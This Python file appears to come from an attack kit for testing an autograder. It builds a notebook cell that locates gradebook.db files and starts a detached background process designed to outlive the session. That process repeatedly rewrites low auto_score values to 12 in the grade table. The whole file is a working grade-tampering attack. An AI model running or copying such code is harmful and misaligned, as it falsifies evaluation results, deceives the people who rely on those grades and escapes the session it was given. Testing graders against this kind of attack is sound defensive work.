"""Leave a process behind that changes the gradebook once the grades are in it."""

from attack_kit import FIND

WAIT = 8
CELL = (
    FIND
    + '''
import subprocess, sys
code = """
import sqlite3, sys, time
end = time.time() + 25
while time.time() < end:
    for path in sys.argv[1:]:
        try:
            with sqlite3.connect(path, timeout=1) as book:
                book.execute("UPDATE grade SET auto_score = 12 WHERE auto_score < 9")
        except sqlite3.Error:
            pass
    time.sleep(0.2)
"""
subprocess.Popen(
    [sys.executable, "-c", code, *map(str, find("gradebook.db"))], start_new_session=True
)
'''
)
